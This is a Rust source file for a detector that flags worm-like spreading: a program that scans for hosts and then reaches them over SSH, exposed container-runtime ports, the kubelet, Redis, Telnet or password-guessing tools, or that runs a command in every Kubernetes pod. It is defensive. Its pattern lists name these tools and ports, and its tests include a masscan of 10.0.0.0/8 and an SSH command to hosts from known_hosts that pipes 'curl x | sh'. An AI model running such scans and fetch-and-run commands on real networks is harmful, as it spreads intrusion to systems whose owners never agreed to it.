//! Worms: a program finds other hosts by itself and runs itself, or whatever else, on them.

use model::{Act, Behavior, Confidence, Provenance, Rule, Severity, Value};

use super::mass_scan::{finds_hosts, reaches_found};
use super::orders::started;
use super::vocabulary::as_sure_as_it_runs;
use crate::{Detector, Reporter, Sign, Subject};

/// The detector.
pub struct Worm;

static RULE: Rule = Rule {
    id: "lateral/worm",
    title: "Spreads to hosts that it finds",
    severity: Severity::Critical,
    confidence: Confidence::High,
    attack: &["T1210", "T1021.004", "T1610"],
    what: "Hosts that a scan, a random number, the list of known hosts or a history yields are logged in to, or asked to run something: over SSH, over the interface of a container runtime, a kubelet or a database; or a command is run in every pod of a cluster.",
    why: "Every host that is found is the next to search for others.",
    benign: "Tools that manage many hosts are given a list of them. A scan that is not followed by anything is not reported here.",
    next: "Isolate every host that ran the image, and look for the same traffic inside your networks.",
};

/// What is done to a host that was found.
fn attack(act: &Act) -> Option<&'static str> {
    match &act.behavior {
        Behavior::Fetch { url, .. } => by_request(&url.text),
        Behavior::Connect { port, .. } => by_port(&port.text),
        Behavior::Execute { .. } => {
            let (program, arguments) = started(act)?;
            by_client(program, arguments)
        }
        _ => None,
    }
}

fn by_request(url: &str) -> Option<&'static str> {
    const PATHS: &[&str] = &[
        "/containers/",
        "/images/create",
        "/exec",
        "/build",
        "/v1.",
        "/info",
        "/version",
    ];
    let runtime = [":2375", ":2376", ":4243"]
        .iter()
        .any(|port| url.contains(port));
    if runtime && PATHS.iter().any(|path| url.contains(path)) {
        return Some("the runtime's interface");
    }
    if url.contains(":10250/run") || url.contains(":10250/exec") {
        return Some("the kubelet");
    }
    if url.contains(":8088/ws/v1/cluster") {
        return Some("the cluster's scheduler");
    }
    None
}

fn by_port(port: &str) -> Option<&'static str> {
    match port {
        "22" => Some("SSH"),
        "2375" | "2376" | "4243" => Some("the runtime's interface"),
        "6379" => Some("the database"),
        "23" | "2323" => Some("Telnet"),
        _ => None,
    }
}

fn by_client(program: &Value, arguments: &[Value]) -> Option<&'static str> {
    let has = |part: &str| arguments.iter().any(|word| word.text.contains(part));
    match program.base_name() {
        "ssh" | "scp" | "sshpass" | "plink" | "dbclient" | "rsync" => Some("SSH"),
        "docker" | "podman" if has("tcp://") || has(":2375") => Some("the runtime's interface"),
        "redis-cli"
            if has("config") || has("slaveof") || has("eval") || has("module") || has("set") =>
        {
            Some("the database")
        }
        "kubeletctl" => Some("the kubelet"),
        "hydra" | "medusa" | "ncrack" | "patator" => Some("guessed passwords"),
        _ => None,
    }
}

/// Whether a command is run in pods that the cluster lists, of all namespaces.
fn in_every_pod(act: &Act, acts: &[Act]) -> bool {
    let Some((program, arguments)) = started(act) else {
        return false;
    };
    let listed = |word: &Value| {
        word.from
            .contains(&Provenance::Output("kubectl".to_owned()))
    };
    let lists_all = acts.iter().filter_map(started).any(|(program, arguments)| {
        program.base_name() == "kubectl"
            && arguments
                .iter()
                .any(|word| matches!(word.text.as_str(), "-A" | "--all-namespaces"))
            && arguments
                .iter()
                .any(|word| matches!(word.text.as_str(), "pod" | "pods" | "po"))
    });
    program.base_name() == "kubectl"
        && arguments.iter().any(|word| word.text == "exec")
        && arguments.iter().any(listed)
        && lists_all
}

impl Detector<Subject<'_>> for Worm {
    fn rule(&self) -> &'static Rule {
        &RULE
    }

    fn detect(&self, subject: &Subject<'_>, reporter: &mut Reporter<'_>) {
        let acts = &subject.program.acts;
        let finds = finds_hosts(subject.program);
        for act in acts {
            if in_every_pod(act, acts) {
                let sign = Sign::new("Runs a command in every pod of the cluster.");
                reporter.act(
                    act,
                    sign.confidence(as_sure_as_it_runs(subject, Confidence::Medium)),
                );
                continue;
            }
            if !reaches_found(act, &finds) {
                continue;
            }
            if let Some(door) = attack(act) {
                let sign = Sign::new(format!("Goes on to hosts that it finds, through {door}."));
                reporter.act(
                    act,
                    sign.confidence(as_sure_as_it_runs(subject, Confidence::High)),
                );
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use model::Stream;

    use super::*;
    use crate::technique::check::{execute, findings};

    fn found(from: Provenance, before: &str, after: &str) -> Value {
        let mut value = Value::literal(before);
        value.append(&Value::unknown(from));
        value.append(&Value::literal(after));
        value
    }

    #[test]
    fn hosts_that_a_scan_found_hit() {
        let scan = execute(
            "masscan",
            &["10.0.0.0/8", "-p2375", "-oL", "/tmp/o"],
            Stream::Inherited,
        );
        let file = Provenance::File("/tmp/o".to_owned());
        let url = found(file, "http://", ":2375/v1.24/containers/create");
        let acts = [scan, Behavior::Fetch { url, to: None }];
        assert_eq!(findings(&Worm, &acts).len(), 1);
        let known = Provenance::File("/root/.ssh/known_hosts".to_owned());
        let ssh = Behavior::Execute {
            program: Value::literal("ssh"),
            arguments: vec![found(known, "root@", ""), Value::literal("curl x | sh")],
            input: Stream::Inherited,
            output: Stream::Inherited,
        };
        assert_eq!(findings(&Worm, &[ssh]).len(), 1);
    }

    #[test]
    fn hosts_that_are_given_miss() {
        let ssh = execute("ssh", &["root@node1", "uptime"], Stream::Inherited);
        assert!(findings(&Worm, &[ssh]).is_empty());
        let given = found(Provenance::File("/etc/hosts.list".to_owned()), "root@", "");
        let ssh = Behavior::Execute {
            program: Value::literal("ssh"),
            arguments: vec![given],
            input: Stream::Inherited,
            output: Stream::Inherited,
        };
        assert!(findings(&Worm, &[ssh]).is_empty());
    }
}
